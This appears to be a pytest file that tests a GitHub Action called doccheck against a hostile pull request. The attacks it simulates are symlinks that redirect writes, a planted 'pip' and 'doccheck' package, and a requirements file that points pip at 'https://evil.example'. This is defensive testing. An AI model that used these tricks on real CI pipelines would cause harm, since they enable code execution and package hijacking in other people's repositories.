"""The GitHub Action on a pull request written to attack it (issue 23): each test is an attacker's input.

The repository is whatever the pull request committed: links where the Action writes its own files, a `pip/`
or `doccheck/` package that Python would import from the working directory, file names that carry a newline
and a workflow command, or bytes that are not UTF-8. The Action's steps run as `tests/test_action.py` runs
them: action.yml's `run:` lines in bash, with the environment GitHub gives them.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from tests.test_action import ADR, Run, _git, run_action


def _workspace(root: Path) -> Path:
    """A pull request's checkout: one good ADR on a branch of its own."""
    adrs = root / "docs" / "adr"
    adrs.mkdir(parents=True)
    (adrs / "0001-use-postgresql.md").write_text(ADR.format(number=1, title="Use PostgreSQL", date="2024-01-10",
                                                            status="Accepted", context="We had to choose."))
    _git(root, "init", "-q", "-b", "attack")
    return root


def _commit(root: Path) -> None:
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "attack")


def _pull_request(repo: Path, tmp: Path, **inputs: str) -> Run:
    tmp.mkdir()
    return run_action(repo, tmp, event="pull_request", ref_name="7/merge", base_ref="main", inputs=inputs)


# --- 10: the plan step writes only into real folders ------------------------------------------------------------

@pytest.mark.parametrize("link", [".doccheck", ".doccheck/action", ".doccheck/action/requirements.txt",
                                  ".doccheck/action/.gitignore"])
def test_plan_step_writes_nothing_through_a_committed_link(link: str, tmp_path: Path) -> None:
    repo = _workspace(tmp_path / "repo")
    elsewhere = tmp_path / "elsewhere"  # what the link points at: a folder, or a file, outside the workspace
    elsewhere.mkdir()
    victim = elsewhere / "victim.txt"
    victim.write_text("keep me\n")
    (repo / link).parent.mkdir(parents=True, exist_ok=True)
    (repo / link).symlink_to(victim if link.endswith((".txt", ".gitignore")) else elsewhere)
    _commit(repo)

    run = _pull_request(repo, tmp_path / "runner")
    assert run.steps["plan"]["outcome"] == "failure"
    assert run.stdout.splitlines() == [f"::error title=doccheck::{link} is a symbolic link in the repository; "
                                       "doccheck writes nothing through it (remove it)"]
    assert run.steps["check"]["outcome"] == "skipped"
    assert sorted(p.name for p in elsewhere.iterdir()) == ["victim.txt"]  # nothing written beside it
    assert victim.read_text() == "keep me\n"


def test_plan_step_refuses_a_file_where_its_folder_goes(tmp_path: Path) -> None:
    repo = _workspace(tmp_path / "repo")
    (repo / ".doccheck").write_text("not a folder\n")
    _commit(repo)
    run = _pull_request(repo, tmp_path / "runner")
    assert run.steps["plan"]["outcome"] == "failure"
    assert run.stdout.splitlines() == ["::error title=doccheck::.doccheck is not a folder; doccheck keeps its own "
                                       "files there (remove it)"]
    assert (repo / ".doccheck").read_text() == "not a folder\n"


def test_plan_step_replaces_its_own_files_from_an_earlier_run(tmp_path: Path) -> None:
    repo = _workspace(tmp_path / "repo")
    (repo / ".doccheck" / "action").mkdir(parents=True)
    (repo / ".doccheck" / "action" / "requirements.txt").write_text("--index-url https://evil.example\n")
    run = _pull_request(repo, tmp_path / "runner", **{"doccheck-version": "0.1.0"})
    assert run.steps["plan"]["outcome"] == "success"
    assert run.requirement == "doccheck==0.1.0"
    assert sorted(os.listdir(repo / ".doccheck" / "action")) == [".gitignore", "requirements.txt"]  # no temp left
    assert subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True, text=True).stdout == \
        "?? docs/\n"  # its own folder stays out of git


# --- 11: Python never imports from the checkout ------------------------------------------------------------------

PLANTED = '''import pathlib
pathlib.Path({marker!r}).write_text("the {name} a pull request committed ran")
'''


def test_no_step_imports_a_pip_or_doccheck_folder_the_pull_request_commits(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = _workspace(tmp_path / "repo")
    markers = {name: tmp_path / f"{name}-ran" for name in ("pip", "doccheck")}
    for name, marker in markers.items():
        (repo / name).mkdir()
        for module in ("__init__.py", "__main__.py"):
            (repo / name / module).write_text(PLANTED.format(marker=str(marker), name=name))
    _git(repo, "branch", "-m", "main")
    _commit(repo)
    (tmp_path / "runner").mkdir()
    # The install step runs too: the version this environment holds already, so pip has nothing to fetch.
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    run = run_action(repo, tmp_path / "runner", event="push", ref_name="main", skipped=frozenset(),
                     inputs={"sync": "true", "doccheck-version": "0.1.0"})
    assert [run.steps[step]["outcome"] for step in ("plan", "install", "check")] == ["success"] * 3, run.steps
    # `doccheck ci sync` started `doccheck sync`, which started the embedded FalkorDB's keeper: both real.
    assert run.steps["sync"]["outcome"] == "success" and run.outputs["episodes-written"] == "1"
    assert [marker.name for marker in markers.values() if marker.exists()] == []
